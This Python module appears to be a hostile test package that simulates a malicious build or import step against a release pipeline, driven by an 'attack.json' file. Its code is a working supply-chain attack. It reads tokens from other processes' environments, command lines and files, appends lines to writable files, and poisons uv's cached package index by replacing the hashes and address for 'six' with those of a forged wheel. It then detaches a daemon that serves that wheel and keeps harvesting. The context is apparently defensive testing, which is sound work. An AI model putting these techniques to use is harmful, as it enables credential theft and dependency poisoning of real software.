"""What a build or an import could do to a release: read tokens, write where the step reads, forge uv's cache.

`attack.json` beside it says where things are; whoever knows the step finds them by itself.
"""

import contextlib
import hashlib
import json
import os
import re
import subprocess
import sys
import threading
import time
import zipfile
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path

TOLD = json.loads(Path(__file__).with_name("attack.json").read_text())
LOOT = Path(TOLD["loot"])
WHEEL = LOOT.with_name("forged.whl")
SECONDS = 20
NEEDLE = "/".join(["canary", "of"])  # it isn't found in this file


def importing() -> bool:
    """Tell whether this is the proof: a build imports setup.py."""
    return "setuptools" not in sys.modules and __name__ == "acme_hostile.attack"


def take(who: str) -> None:
    """Note the tokens in other processes' environments and arguments, and in files, and each place to write to."""
    found = []
    for each in [*Path("/proc").glob("[0-9]*/environ"), *Path("/proc").glob("[0-9]*/cmdline"), *files()]:
        with contextlib.suppress(OSError):
            text = each.read_bytes().decode("utf-8", "replace")
            found += [f"{who} read {part} in {each}" for part in text.split("\0") if NEEDLE in part]
    for place in TOLD["places"]:
        with contextlib.suppress(OSError), Path(place).open("a") as file:
            file.write("HOSTILE=yes\n")
            found.append(f"{who} wrote {place}")
    with contextlib.suppress(OSError), LOOT.open("a") as file:
        file.write("".join(f"{each}\n" for each in found))


def files() -> list[Path]:
    """Return the small files below the places where the run leaves some, and those that processes have open."""
    found = [path for place in TOLD["look"] for path in Path(place).rglob("*") if LOOT.parent not in path.parents]
    with contextlib.suppress(OSError):
        return [path for path in found if path.is_file() and path.stat().st_size < 100_000]
    return []


def build() -> None:
    """Forge the cache, and leave a process behind that looks for tokens and serves the forged file."""
    if Path(TOLD["loot"]).with_name("begun").exists():
        return
    LOOT.with_name("begun").touch()
    _pack()
    with contextlib.suppress(OSError, LookupError, StopIteration):
        _forge(Path(TOLD["cache"]))
    take("build")
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for number in range(3):
                os.dup2(os.open(os.devnull, os.O_RDWR), number)
            _stay()
        os._exit(0)


def _pack() -> None:
    info = "six-1.17.0.dist-info"
    with zipfile.ZipFile(WHEEL, "w") as archive:
        archive.writestr("six.py", "FORGED = True\n")
        archive.writestr(f"{info}/METADATA", "Metadata-Version: 2.1\nName: six\nVersion: 1.17.0\n")
        archive.writestr(f"{info}/WHEEL", "Wheel-Version: 1.0\nGenerator: x\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
        archive.writestr(f"{info}/RECORD", "")


def _forge(cache: Path) -> None:
    """Give six another address and other hashes in the index's page that uv keeps, of the same length, for three years."""
    locked = _uv(cache, "--no-config")
    page = next(iter(cache.glob("simple-v*/**/six.rkyv")))
    index = re.findall(rb"(https?://[!-~]*?)/six/", page.read_bytes())[-1].decode()
    settings = LOOT.with_name("forging.toml")
    settings.write_text(f'[[index]]\nurl = "{index}"\ndefault = true\ncache-control = {{ api = "max-age=99999999" }}\n')
    _uv(cache, "--refresh", "--config-file", str(settings))
    forged = hashlib.sha256(WHEEL.read_bytes()).digest()
    server, file = f"http://127.0.0.1:{TOLD['port']}/".encode(), b"/six-1.17.0-py2.py3-none-any.whl"
    content = page.read_bytes()
    for digest in re.findall("sha256:([0-9a-f]{64})", locked):
        content = content.replace(bytes.fromhex(digest), forged)
    address = re.findall(rb"https?://[!-~]{20,400}?" + re.escape(file), content)[0]
    page.write_bytes(content.replace(address, server + b"x" * (len(address) - len(server) - len(file)) + file))


def _uv(cache: Path, *options: str) -> str:
    env = {name: value for name, value in os.environ.items() if name != "UV_DEFAULT_INDEX"}
    command = ["uv", "pip", "compile", "-", "--quiet", "--generate-hashes", "--cache-dir", str(cache), *options]
    return subprocess.run(command, env=env, input=b"six==1.17.0", capture_output=True, check=False).stdout.decode()


class _Handler(BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        """Send the forged file."""
        self.send_response(200)
        self.send_header("Content-Length", str(WHEEL.stat().st_size))
        self.end_headers()
        if self.command == "GET":
            self.wfile.write(WHEEL.read_bytes())

    do_HEAD = do_GET


def _stay() -> None:
    with contextlib.suppress(OSError):
        server = HTTPServer(("127.0.0.1", TOLD["port"]), _Handler)
        threading.Thread(target=server.serve_forever, daemon=True).start()
    end = time.monotonic() + SECONDS
    while time.monotonic() < end:
        take("daemon")
        LOOT.with_name("alive").write_text(str(time.time()))
        time.sleep(0.01)
    os._exit(0)
